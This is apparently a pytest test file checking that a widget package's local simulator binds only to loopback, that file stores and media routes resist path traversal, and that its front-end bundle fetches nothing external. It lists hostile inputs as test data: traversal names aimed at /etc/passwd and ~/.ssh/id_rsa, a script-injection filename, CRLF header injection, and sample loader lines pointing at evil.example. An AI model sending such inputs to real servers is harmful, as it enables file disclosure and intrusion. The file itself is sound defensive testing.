"""Containment: the simulator listens on loopback only, names from the network or from users
cannot escape their directory, and the front end loads nothing from outside the notebook.
"""

from __future__ import annotations

import asyncio
import atexit
import json
import re
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kontext_widgets import Prediction, ProtocolError, Store
from kontext_widgets.contract import UPLOAD_BINARY_PATH, UPLOAD_TICKET_PATH
from kontext_widgets.simulator import SimulatorConfig, SimulatorServer, serve

from ..conftest import png_bytes

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "kontext_widgets"
SAFE_SEGMENT = re.compile(r"^[A-Za-z0-9_-][A-Za-z0-9._-]*$")

# --------------------------------------------------------------------------- loopback only


@pytest.mark.parametrize(
    "host", ["0.0.0.0", "::", "192.168.1.10", "10.0.0.1", "example.com", "", "127.0.0.1.nip.io"]
)
def test_the_simulator_refuses_every_non_loopback_host(host: str) -> None:
    with pytest.raises(ValueError, match="loopback only"):
        SimulatorServer(SimulatorConfig(), host=host)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "203.0.113.5"])
async def test_serve_refuses_non_loopback_hosts_before_binding(host: str) -> None:
    with pytest.raises(ValueError, match="loopback only"):
        await serve(SimulatorConfig(), host=host)


def _listening_addresses(port: int) -> set[str]:
    """Local addresses of sockets listening on ``port``, from /proc/net/tcp{,6}."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        path = Path(table)
        if not path.exists():
            continue
        for line in path.read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.split(":")
            if int(hex_port, 16) == port and state == "0A":  # 0A: LISTEN
                found.add(address)
    return found


def _outward_address() -> str | None:
    """This machine's address on its default route, if it has one (no packet is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # TEST-NET-1: routing only
            address = str(probe.getsockname()[0])
        except OSError:
            return None
    return None if address.startswith("127.") else address


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux /proc/net/tcp")
def test_a_running_simulator_listens_on_127_0_0_1_only() -> None:
    with SimulatorServer(SimulatorConfig(latency_s=0.0)) as server:
        port = int(server.url.rsplit(":", 1)[1])
        assert _listening_addresses(port) == {"0100007F"}  # 127.0.0.1, nothing else
        outward = _outward_address()
        if outward is not None:
            refused = (ConnectionRefusedError, TimeoutError)
            with pytest.raises(refused), socket.create_connection((outward, port), timeout=2):
                pass


def test_the_command_line_refuses_a_public_host() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "kontext_widgets.simulator", "--host", "::"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert "loopback only" in done.stderr


def test_nothing_else_in_the_package_opens_a_listening_socket() -> None:
    """Only simulator/server.py binds, and it checks the host first (tests above)."""
    listening = re.compile(
        r"TCPSite|UnixSite|SockSite|create_server|start_server|HTTPServer|\.bind\(|\.listen\(|"
        r"web\.run_app|socketserver"
    )
    binders = sorted(
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if listening.search(path.read_text(encoding="utf-8"))
    )
    assert binders == ["simulator/server.py"]
    source = (PACKAGE / "simulator" / "server.py").read_text(encoding="utf-8")
    site = source.index("web.TCPSite(runner, bind, port)")
    assert source.index("bind = loopback_host(host)") < site


# --------------------------------------------------------------------------- upload names


HOSTILE_NAMES = [
    "../../x.png",
    "../../../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//x.png",
    "%2e%2e%2fx.png",
    "a\x00b.png",
    "..",
    ".",
    "",
    "~/.ssh/id_rsa",
    "<script>alert(1)</script>.png",
    "x" * 5000 + ".png",
    "C:\\temp\\x.png",
    "nul\r\nX-Injected: 1.png",
]


def _multipart(filename: bytes, data: bytes) -> tuple[bytes, str]:
    """A raw multipart body, so the name reaches the server exactly as given."""
    boundary = "kwBoundary7MA4YWxkTrZu0gW"
    body = (
        f"--{boundary}\r\n".encode()
        + b'Content-Disposition: form-data; name="file"; filename="'
        + filename
        + b'"\r\nContent-Type: image/png\r\n\r\n'
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


def _stored_files(server: SimulatorServer) -> list[Path]:
    return [p for p in server.storage_dir.rglob("*") if p.is_file()]


async def _raw_get(url: str, raw_path: str) -> tuple[int, bytes]:
    """GET with the path sent byte for byte (no client-side normalisation of '..')."""
    host, port = url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(f"GET {raw_path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    await writer.drain()
    answer = await reader.read()
    writer.close()
    await writer.wait_closed()
    status = int(answer.split(b" ", 2)[1])
    return status, answer


@pytest.mark.filterwarnings("ignore::aiohttp.multipart.BadContentDispositionHeader")
async def test_upload_names_cannot_escape_the_simulators_directory(
    simulator: SimulatorServer,
) -> None:
    import aiohttp

    image = png_bytes()
    urls = []
    async with aiohttp.ClientSession() as session:
        for name in HOSTILE_NAMES:
            body, content_type = _multipart(name.encode("utf-8", "surrogateescape"), image)
            async with session.post(
                simulator.url + UPLOAD_BINARY_PATH,
                data=body,
                headers={"Content-Type": content_type},
            ) as answer:
                assert answer.status in (200, 400), (name, answer.status)
                if answer.status != 200:
                    continue
                data = (await answer.json())["data"]
            url = data["download_url"]
            assert url.startswith(simulator.url + "/media/uploads/")
            token, segment = url.removeprefix(simulator.url + "/media/uploads/").split("/")
            assert re.fullmatch(r"[0-9a-f]{32}", token)
            assert SAFE_SEGMENT.match(segment), (name, segment)
            assert len(segment) <= 100
            urls.append(url)
        assert len(urls) >= len(HOSTILE_NAMES) - 2
        for url in urls:
            async with session.get(url) as served:
                assert served.status == 200
                assert await served.read() == image
    root = simulator.storage_dir.resolve()
    files = _stored_files(simulator)
    assert files
    for path in files:
        assert path.resolve().is_relative_to(root)
        assert path.parent.name == "uploads"
        assert re.fullmatch(r"[0-9a-f]{32}", path.name)  # named by the token, never by the user


async def test_ticket_uploads_sanitise_names_too(simulator: SimulatorServer) -> None:
    import aiohttp

    image = png_bytes()
    async with aiohttp.ClientSession() as session:
        for name in HOSTILE_NAMES[:8]:
            ticket = {"filename": name or "x", "size": len(image), "content_type": "image/png"}
            async with session.post(simulator.url + UPLOAD_TICKET_PATH, json=ticket) as answer:
                assert answer.status == 200, name
                data = (await answer.json())["data"]
            segment = data["download_url"].rsplit("/", 1)[1]
            assert SAFE_SEGMENT.match(segment), (name, segment)
            put = data["upload"]["url"]
            assert put.startswith(simulator.url + "/media/put/")
            async with session.put(put, data=image) as stored:
                assert stored.status == 200
            async with session.get(data["download_url"]) as served:
                assert await served.read() == image
    for path in _stored_files(simulator):
        assert path.resolve().is_relative_to(simulator.storage_dir.resolve())


@pytest.mark.parametrize(
    "raw_path",
    [
        "/media/uploads/../../../../etc/passwd",
        "/media/uploads/0123456789abcdef0123456789abcdef/..%2F..%2F..%2Fetc%2Fpasswd",
        "/media/outputs/..%2F..%2F..%2Fetc%2Fpasswd/output.png",
        "/media/outputs/../../../etc/passwd/output.png",
        "/media/put/..%2F..%2Fx",
        "/media/outputs/%2e%2e/output.png",
        "//etc/passwd",
    ],
)
async def test_media_routes_never_serve_outside_files(
    simulator: SimulatorServer, raw_path: str
) -> None:
    status, answer = await _raw_get(simulator.url, raw_path)
    assert status in (400, 404, 405), answer[:200]
    assert b"root:" not in answer


# --------------------------------------------------------------------------- the store


@pytest.mark.parametrize(
    "name",
    [
        "../../x",
        "/etc/passwd",
        "../" * 20 + "etc/passwd",
        "a" * 63 + "\x00",
        "\x00" * 64,
        "A" * 64,  # upper case: not what the store writes
        "0" * 63,
        "0" * 65,
        "0" * 62 + "/.",
        "..",
        "",
    ],
)
def test_store_paths_cannot_escape_the_image_directory(tmp_path: Path, name: str) -> None:
    store = Store(tmp_path)
    try:
        with pytest.raises(ValueError, match="not a sha256 hex digest"):
            store.image_path(name)
        with pytest.raises(ValueError, match="not a sha256 hex digest"):
            store.read_image(name)
    finally:
        store.close()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80) | st.text("0123456789abcdef./\\\x00", min_size=60, max_size=70))
def test_any_name_is_refused_or_stays_inside_the_store(name: str) -> None:
    store = Store(_STORE_DIR)
    try:
        path = store.image_path(name)
    except ValueError:
        return
    finally:
        store.close()
    assert path.resolve().is_relative_to(store.images_dir.resolve())
    assert path.name == f"{name}.png"


_STORE_DIR = Path(tempfile.mkdtemp(prefix="kw-containment-"))
atexit.register(shutil.rmtree, _STORE_DIR, ignore_errors=True)


def test_put_image_writes_only_inside_the_store(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    try:
        sha = store.put_image(png_bytes())
    finally:
        store.close()
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to((tmp_path / "store").resolve()) for p in files)
    assert (tmp_path / "store" / "images" / sha[:2] / f"{sha}.png") in files


@pytest.mark.parametrize("pid", ["../../x", "a/b", "..", ".hidden", "a b", "x" * 201, "a\x00"])
def test_prediction_ids_from_the_service_cannot_become_paths(pid: str) -> None:
    """Ids go into URL paths and file names (CLI outputs): the parser refuses odd ones."""
    with pytest.raises(ProtocolError, match="no valid 'id'"):
        Prediction.from_envelope({"data": {"id": pid, "status": "completed"}})


# --------------------------------------------------------------------------- the front end

#: Every "://" the bundle may contain, with enough context to be unambiguous: user-facing
#: text only (an input's placeholder and an error message), never a resource to load.
ALLOWED_URL_TEXT = {
    'placeholder:"https://\\u2026"',
    "only http:// and https:// URLs can be added",
}
LOADERS = [
    r"\bfetch\s*\(",
    r"XMLHttpRequest",
    r"\bWebSocket\b",
    r"\bEventSource\b",
    r"sendBeacon",
    r"\bnew\s+Worker\b",
    r"SharedWorker",
    r"importScripts",
    r"\bimport\s*\(",  # dynamic import
    r"(^|[;}\s])import\s*[\w{*\"'`]",  # a static import left unbundled
    r"\bwindow\.open\s*\(",
    r"\blocation\s*(\.href\s*)?=",
    r"createElement\(\s*[\"'`](script|iframe|link)",
    r"\beval\s*\(",
    r"new\s+Function\s*\(",
]


def _built_bundle(tmp_path: Path) -> tuple[str, str]:
    """A fresh build of js/src with the project's own esbuild and flags (into tmp_path)."""
    esbuild = ROOT / "js" / "node_modules" / ".bin" / "esbuild"
    if not esbuild.exists() or shutil.which("node") is None:
        pytest.skip("needs node and js/node_modules (npm --prefix js install)")
    package = json.loads((ROOT / "js" / "package.json").read_text())
    flags = package["scripts"]["build"].split()
    assert flags[:3] == ["esbuild", "src/widget.ts", "src/widget.css"]
    flags = [f for f in flags[3:] if not f.startswith("--outdir")]
    subprocess.run(
        [str(esbuild), "src/widget.ts", "src/widget.css", *flags, f"--outdir={tmp_path}"],
        cwd=ROOT / "js",
        check=True,
        capture_output=True,
        timeout=120,
    )
    return (tmp_path / "widget.js").read_text(), (tmp_path / "widget.css").read_text()


def _check_front_end(js: str, css: str) -> None:
    for pattern in LOADERS:
        found = re.search(pattern, js)
        assert found is None, f"{pattern}: {js[max(0, found.start() - 60) : found.end() + 60]!r}"
    for match in re.finditer(r"://", js):
        context = js[max(0, match.start() - 60) : match.end() + 60]
        assert any(allowed in context for allowed in ALLOWED_URL_TEXT), context
    assert re.search(r"(?i)//[a-z0-9.-]+\.(com|net|org|io|dev|ai|cdn)\b", js) is None
    assert "@import" not in css
    for url in re.findall(r"url\(\s*([^)]*)\)", css):
        assert url.strip("'\" ").startswith("data:"), url
    assert "://" not in css


def test_the_built_front_end_loads_nothing_from_outside(tmp_path: Path) -> None:
    js, css = _built_bundle(tmp_path)
    assert "export" in js  # an ES module, as anywidget loads it
    _check_front_end(js, css)


def test_the_shipped_front_end_loads_nothing_from_outside() -> None:
    js_path, css_path = PACKAGE / "static" / "widget.js", PACKAGE / "static" / "widget.css"
    if not js_path.exists():
        pytest.skip("no bundle built: npm --prefix js run build")
    if "sourceMappingURL=" in js_path.read_text():
        pytest.skip("a development build (npm run dev) is in place; the release build is checked")
    _check_front_end(js_path.read_text(), css_path.read_text())


def test_the_front_end_check_catches_a_loader(tmp_path: Path) -> None:
    """The check itself can fail: a bundle that fetches or imports from a CDN is caught."""
    bad: list[Any] = [
        'fetch("https://cdn.example.com/x.js")',
        'import("https://esm.sh/lodash")',
        'var s=document.createElement("script");s.src="https://evil.example/x.js"',
        'img.src="https://tracker.example/p.gif"',
    ]
    for js in bad:
        with pytest.raises(AssertionError):
            _check_front_end("export default {};" + js, "")
    with pytest.raises(AssertionError):
        _check_front_end("export default {};", "@import url(https://fonts.example/x.css);")
